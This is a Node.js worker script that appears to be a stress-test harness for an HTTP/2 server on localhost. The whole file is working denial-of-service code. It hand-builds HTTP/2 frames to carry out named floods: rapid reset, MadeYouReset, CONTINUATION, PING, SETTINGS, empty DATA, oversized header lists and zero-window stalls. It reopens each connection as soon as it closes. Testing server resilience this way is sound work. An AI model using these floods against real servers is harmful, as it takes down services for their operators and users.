/**
 * Clients of HTTP/2 that mean harm, in a process of their own: each connection says the same thing
 * over and over, as fast as it is taken, and is opened again as soon as it is ended.
 *
 * Told `{ port, kind, connections }`, it begins; told `{ stop: true }`, it says what it did and ends.
 */
import { connect } from 'node:tls';

const type = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, window: 8, continuation: 9 };
const endStream = 1;
const endHeaders = 4;
/** So many go out in one write. */
const batch = 50;

let told = null;
let sent = 0;
let opened = 0;

process.on('message', (order) => {
  if (order.stop) {
    process.send({ sent, opened }, () => process.exit(0));
    return;
  }
  told = order;
  for (let at = 0; at < order.connections; at++) flood();
});

function flood() {
  const next = kinds[told.kind]();
  const socket = connect({
    port: told.port,
    host: '127.0.0.1',
    servername: 'bench.example',
    rejectUnauthorized: false,
    ALPNProtocols: ['h2'],
  });
  opened++;
  socket.on('error', () => {});
  socket.resume();
  socket.once('close', () => setTimeout(flood, 10));
  socket.once('secureConnect', () => {
    socket.write(Buffer.concat([preface, frame(type.settings, 0, 0, noTable)]));
    const go = () => {
      if (socket.destroyed || !socket.writable) return;
      const frames = [];
      for (let at = 0; at < batch; at++) frames.push(next());
      sent += batch;
      if (socket.write(Buffer.concat(frames))) setImmediate(go);
      else socket.once('drain', go);
    };
    go();
  });
}

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** SETTINGS_HEADER_TABLE_SIZE: 0. */
const noTable = Buffer.from([0, 1, 0, 0, 0, 0]);
/** As well no window: nothing of an answer may be sent. */
const noWindow = Buffer.from([0, 1, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0]);

const get = block([
  [':method', 'GET'],
  [':scheme', 'https'],
  [':authority', 'bench.example'],
  [':path', '/small'],
]);
const post = block([
  [':method', 'POST'],
  [':scheme', 'https'],
  [':authority', 'bench.example'],
  [':path', '/small'],
]);

/** Each makes what one connection says, frame by frame. */
const kinds = {
  'rapid reset': () => {
    let id = -1;
    return () => {
      id += 2;
      const head = frame(type.headers, endHeaders | endStream, id, get);
      return Buffer.concat([head, frame(type.reset, 0, id, uint32(8))]);
    };
  },
  MadeYouReset: () => {
    let id = -1;
    return () => {
      id += 2;
      const head = frame(type.headers, endHeaders, id, post);
      return Buffer.concat([head, frame(type.window, 0, id, uint32(0))]);
    };
  },
  CONTINUATION: () => {
    const more = block([['x-more', 'x'.repeat(1_000)]]);
    let first = true;
    return () => {
      if (!first) return frame(type.continuation, 0, 1, more);
      first = false;
      return frame(type.headers, endStream, 1, get);
    };
  },
  PING: () => () => frame(type.ping, 0, 0, Buffer.alloc(8)),
  SETTINGS: () => () => frame(type.settings, 0, 0, Buffer.alloc(0)),
  'empty DATA': () => {
    let first = true;
    return () => {
      if (!first) return frame(type.data, 0, 1, Buffer.alloc(0));
      first = false;
      return frame(type.headers, endHeaders, 1, post);
    };
  },
  'header list': () => {
    const large = Buffer.concat([get, block([['x-large', 'x'.repeat(15_000)]])]);
    let id = -1;
    return () => {
      id += 2;
      return frame(type.headers, endHeaders | endStream, id, large);
    };
  },
  'no window': () => {
    let id = -1;
    let first = true;
    return () => {
      id += 2;
      const large = block([
        [':method', 'GET'],
        [':scheme', 'https'],
        [':authority', 'bench.example'],
        [':path', '/64k'],
      ]);
      const head = frame(type.headers, endHeaders | endStream, id, large);
      if (!first) return head;
      first = false;
      return Buffer.concat([frame(type.settings, 0, 0, noWindow), head]);
    };
  },
};

function frame(kind, flags, id, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(kind, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
}

function uint32(value) {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

/** Literals that are never indexed (RFC 7541 section 6.2.3). */
function block(fields) {
  const text = (value) => {
    const bytes = Buffer.from(value);
    if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
    const length = [127];
    let rest = bytes.length - 127;
    for (; rest >= 128; rest >>= 7) length.push((rest & 127) | 128);
    return Buffer.concat([Buffer.from([...length, rest]), bytes]);
  };
  const parts = fields.flatMap(([name, value]) => [Buffer.from([0x10]), text(name), text(value)]);
  return Buffer.concat(parts);
}
